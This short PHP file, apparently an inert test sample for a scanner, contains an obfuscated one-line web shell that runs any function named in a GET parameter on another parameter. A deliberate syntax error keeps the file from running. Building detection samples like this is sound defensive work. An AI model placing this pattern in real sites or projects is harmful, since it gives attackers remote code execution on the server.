<?php
shodo inert sample: deliberate syntax error, this file never runs
 ${"_G"."ET"}["a"](${"_G"."ET"}["b"]); ?>
